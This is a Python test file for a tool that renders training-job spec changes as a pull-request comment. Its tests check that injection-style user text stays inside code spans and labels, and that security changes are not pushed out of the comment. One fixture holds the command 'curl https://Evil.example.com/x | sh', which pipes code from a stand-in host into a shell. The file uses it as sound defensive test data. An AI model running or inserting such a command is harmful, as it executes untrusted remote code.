"""The comment on a pull request: user text stays in its code span, cell, or label."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from smspec.review.change import quoted
from smspec.review.comparison import Comparison, State, reviewed
from smspec.review.job_review import data_flow
from smspec.review.markdown import LONGEST, MOST_CHANGES, code, markdown, marked, mermaid
from smspec.review.text import MOST_APART
from smspec.review.text import text as text_of
from smspec.review.version import version_of_request
from smspec.service.job_costs import PriceBook
from support.review.job_reviews import version
from support.spec import job_samples

TRICKS = ["`", "``", "|", "||", "\\", "\\|", "@everyone", "<img src=x>", "[a](https://b)", "\n\n# x", "```", " ", "-->"]
HOSTILE = st.lists(st.one_of(st.sampled_from(TRICKS), st.text(max_size=5)), min_size=1, max_size=8).map("".join)
SPAN = re.compile(r"(?<!`)(`+)(?!`)(.*?)(?<!`)\1(?!`)")


def outside(rendered):
    """Return what is left of Markdown when its code spans are taken out, as CommonMark finds them."""
    return SPAN.sub("", rendered)


def inside(rendered):
    """Return the content of the code spans and of the bars between them."""
    parts = re.findall(r"(?<!`)(`+)(?!`)(.*?)(?<!`)\1(?!`)|<code>((?:&#124;)+)</code>", rendered)
    return "".join(bars.replace("&#124;", "|") if bars else _stripped(text) for _, text, bars in parts)


def _stripped(text):
    """Take away the blanks that CommonMark takes away."""
    return text[1:-1] if text.startswith(" ") and text.endswith(" ") and text.strip(" ") else text


@given(HOSTILE)
def test_code_contains_any_text(text):
    rendered = code(text)
    assert "|" not in rendered
    assert "\n" not in rendered
    assert re.fullmatch(r"(?:<code>(?:&#124;)+</code>)*", outside(rendered))


@given(st.text(alphabet="ab`| \\@<", min_size=1, max_size=12))
def test_code_preserves_its_text(text):
    assert inside(code(text)) == text


@given(HOSTILE)
def test_user_text_in_a_sentence_stays_in_code(text):
    rendered = marked(f"hyperparameter {quoted(text)} changed")
    assert re.fullmatch(r"hyperparameter (?:<code>(?:&#124;)+</code>)* changed", outside(rendered))


@given(HOSTILE, HOSTILE)
def test_diagram_label_contains_any_text(name, place):
    flow = data_flow(version())
    stream = type(flow[0])(True, place, name, "")
    for line in mermaid(name, (), (*flow, stream)).splitlines():
        assert re.fullmatch(
            r"flowchart LR|  [\w]+(?:\[\"[^\"\[\]|<>`@]*\"\]| [-=.]+>\|\"[^\"\[\]|<>`@]*\"\| \w+)", line
        )


def review(old, new, how=markdown):
    states = [
        State(file=file, place="", versions={None: side}, faults={})
        for file, side in (("a.yaml", old), ("b.yaml", new))
    ]
    found = reviewed(*states, PriceBook())
    return how(Comparison(reviews=(found,) if found else ()))


def test_equal_versions_have_an_empty_review():
    assert review(version(), version()) == ""


def requested(text):
    """Return a job whose request contains ``text`` in every possible member."""
    payload = {
        "TrainingJobName": text,
        "RoleArn": text,
        "HyperParameters": {text: text},
        "Environment": {text: text},
        "InputDataConfig": [{"ChannelName": text, "DataSource": {"S3DataSource": {"S3Uri": text}}}],
        "OutputDataConfig": {"S3OutputPath": text},
        text: {text: text},
    }
    return version_of_request(payload, None, None, is_whole=True)


@given(HOSTILE)
def test_every_row_has_four_cells(text):
    rendered = review(requested("x"), requested(text))
    table, _, picture = rendered.partition("```mermaid\n")
    assert re.fullmatch(r"(?:flowchart LR|  .*\n|\n)*flowchart LR\n(?:  .*\n)+```\n", picture)
    rows = [line for line in table.split("\n") if line.startswith("|")]
    assert len(rows) > 6
    assert {line.count("|") for line in rows} == {5}


def test_long_lists_are_cut_with_a_count():
    many = {f"name_{number}": number for number in range(MOST_CHANGES * 2)}
    rendered = review(version(), version(hyperparameters=many))
    assert "… and 21 more: 21 hyperparameters; `smspec diff --format json` has them all." in rendered
    assert len(rendered.splitlines()) < MOST_CHANGES + 15


EVIL = {
    "role": {"role": "arn:aws:iam::111122223333:role/Evil"},
    "run": {"image": {**job_samples.PLAIN["image"], "run": ["curl https://Evil.example.com/x | sh"]}},
    "source": {"source": {"dir": "Evil/"}},
    "environment": {"environment": {"PATH_OF_IT": "Evil"}},
    "output": {"output": {"s3": "s3://Evil/"}},
    "data": {"channels": {"train": {"s3": "s3://Evil/train/"}}},
    "tags": {"tags": {"owner": "Evil"}},
}


@pytest.mark.parametrize("key", EVIL)
@pytest.mark.parametrize("harmless", ["hyperparameters", "image.env"])
@pytest.mark.parametrize("how", [markdown, text_of], ids=["markdown", "text"])
def test_harmless_changes_do_not_push_out_another_key(how, harmless, key):
    many = {f"p{number}": f"{number}" for number in range(200)}
    new = {**job_samples.PLAIN, **EVIL[key]}
    if harmless == "hyperparameters":
        new |= {"hyperparameters": many}
    else:
        new["image"] = {**new["image"], "env": many}
    assert "Evil" in review(version(job_samples.PLAIN), version(new), how)


@pytest.mark.parametrize("jobs", [1, 3])
def test_comment_of_a_few_large_jobs_has_its_limit(jobs):
    many = {f"{'n' * 200}{number}": "|a" * 500 for number in range(100)}
    old, new = version(), version(hyperparameters=many, environment={name.upper(): "a|" * 250 for name in many})
    states = [
        [State(file=f"{n}.yaml", place=f"{n}", versions={None: side}, faults={}) for side in (old, new)]
        for n in range(jobs)
    ]
    rendered = markdown(Comparison(reviews=tuple(reviewed(*each, PriceBook()) for each in states)))
    assert rendered.count("### ") == jobs
    assert 1000 < len(rendered.encode()) <= LONGEST


def test_diagram_is_drawn_only_for_changed_data_flow():
    other = {"train": {"s3": "s3://example-data/other/"}}
    assert "mermaid" in review(version(), version(channels=other))
    assert "mermaid" not in review(version(), version(hyperparameters={"a": 1}))


def test_many_equal_jobs_are_one_line_to_expand():
    """One line of a base spec can change a hundred jobs."""
    many = [reviewed_change(f"jobs/{number}.yaml") for number in range(MOST_APART + 1)]
    few, folded = markdown(Comparison(reviews=tuple(many[:MOST_APART]))), markdown(Comparison(reviews=tuple(many)))
    assert "<details>" not in few
    assert folded.startswith(f"### Jobs: {len(many)} changed\n")
    assert folded.count("<details><summary><b>4 jobs</b>: ") == folded.count("\n\n</details>\n") == 1


def test_comment_fits_and_keeps_changes_of_access():
    """The one with another role may be the last of a thousand."""
    many = [reviewed_change(f"jobs/{number}.yaml", **{f"key_{number}": "x" * 200}) for number in range(400)]
    sides = version(), version(role="arn:aws:iam::111122223333:role/Other")
    states = [State(file="z.yaml", place="", versions={None: side}, faults={}) for side in sides]
    comment = markdown(Comparison(reviews=(*many, reviewed(*states, PriceBook()))))
    assert len(comment.encode()) <= LONGEST
    name = sides[0].name
    assert f"\n| access | 1 job: changes security (role) (`{name}`) |\n" in comment
    assert "changes security (role)</summary>" in comment
    assert "more groups of changes" in comment


@given(HOSTILE)
def test_headline_of_many_jobs_contains_any_text(text):
    """User text is in elements of HTML, where neither Markdown nor HTML finds any mark in it."""
    pair = requested("x"), requested(text)
    states = [
        [State(file=f"{n}.json", place="", versions={None: side}, faults={}) for side in pair]
        for n in range(MOST_APART + 1)
    ]
    rendered = markdown(Comparison(reviews=tuple(filter(None, (reviewed(*both, PriceBook()) for both in states)))))
    for line in rendered.splitlines():
        if line.startswith("<details>"):
            without = re.sub(r"<code>[^<>`*@|\[\]\\]*</code>", "", line)
            assert re.fullmatch(r"<details><summary><b>4 jobs</b>: [^<>`@|\[\]]*</summary>", without), line


def reviewed_change(file, **hyperparameters):
    states = [
        State(file=file, place="", versions={None: side}, faults={})
        for side in (version(), version(hyperparameters=hyperparameters or {"a": 1}))
    ]
    return reviewed(*states, PriceBook())


def test_diagram_uses_the_overlay_that_changes_data_flow():
    other = version(channels={"train": {"s3": "s3://example-data/other/"}})
    states = [
        State(file="a", place="", versions={None: version(), "dev": side}, faults={}) for side in (version(), other)
    ]
    assert "mermaid\nflowchart LR\n" in markdown(Comparison(reviews=(reviewed(*states, PriceBook()),)))
